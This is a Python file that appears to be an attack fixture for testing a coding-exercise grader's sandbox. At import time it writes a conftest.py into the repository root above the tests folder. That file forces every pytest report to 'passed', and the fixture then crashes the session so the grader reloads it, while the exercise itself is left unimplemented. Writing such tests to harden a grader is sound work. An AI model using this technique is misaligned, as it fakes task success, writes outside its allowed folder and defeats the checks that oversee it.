"""ATTACK root_conftest (kind: writing outside the sandbox, into the instructor's repository).

What it tries: pytest loads every ``conftest.py`` from the ``--confcutdir`` (here the repository root, the
parent of ``tests/``) down to the test files. A grader that checks the test files for changes looks at
``tests/``, not at the folder above it. At import time this file writes ``<root>/conftest.py`` -- a conftest
that makes pytest mark every report "passed" -- and forces a restart of the pytest session with ``os._exit``
(a crash in one test). The restarted session loads the new conftest; so does every later grading run from
the same repository.

Why it must fail under the new design: the worker may write only its private temporary folder (Landlock);
and the worker has no test module from which to learn where the tests are.
"""

from __future__ import annotations

import os
import sys

from llm_basics.tokenizer import BPETokenizer

DEFAULT_SPECIALS = ("<bos>", "<eos>", "<pad>")
MARK = "__atk_root_conftest__"

CONFTEST = f'''\
"""Shared fixtures."""
import _pytest.reports as _reports

{MARK} = True
_original = _reports.TestReport.from_item_and_call.__func__


def _from_item_and_call(cls, item, call):
    report = _original(cls, item, call)
    report.outcome, report.longrepr = "passed", None
    return report


_reports.TestReport.from_item_and_call = classmethod(_from_item_and_call)
'''


def _roots() -> list[str]:
    """The folder above each graded tests folder (pytest's rootdir and confcutdir)."""
    roots = []
    for module in list(sys.modules.values()):
        path = getattr(module, "__file__", None) or ""
        if os.path.basename(path).startswith("test_ex"):
            tests = os.path.dirname(path)
            if os.path.basename(tests) == "hidden":
                tests = os.path.dirname(tests)
            root = os.path.dirname(tests)
            if root not in roots:
                roots.append(root)
    return roots


def _already_there(path: str) -> bool:
    try:
        with open(path) as f:
            return MARK in f.read()
    except OSError:
        return False


def _attack() -> None:
    written = False
    for root in _roots():
        path = os.path.join(root, "conftest.py")
        if _already_there(path):
            return  # a restarted session: it loaded our conftest already
        try:
            with open(path, "w") as f:
                f.write(CONFTEST)
            written = True
        except OSError:
            continue
    if written:
        os._exit(3)  # a "crash": the grader restarts pytest, which loads the new conftest


try:
    _attack()
except Exception:
    pass


# ---------------------------------------------------------------------------------------------------------
# The untouched exercise (nothing implemented)
# ---------------------------------------------------------------------------------------------------------


class SpecialTokenizer:
    def __init__(self, base: BPETokenizer, special_tokens=DEFAULT_SPECIALS):
        raise NotImplementedError("ex1: set self.base, self.special_tokens and self._ids")

    def encode(self, text, *, add_bos=False, add_eos=False, allowed_special=()):
        raise NotImplementedError("ex1: encode")

    def decode(self, ids, *, skip_special_tokens=False):
        raise NotImplementedError("ex1: decode")

    def pad(self, batch, *, length=None, side="right"):
        raise NotImplementedError("ex1: pad")

    def save(self, path):
        raise NotImplementedError("ex1: save")

    @classmethod
    def load(cls, path):
        raise NotImplementedError("ex1: load")
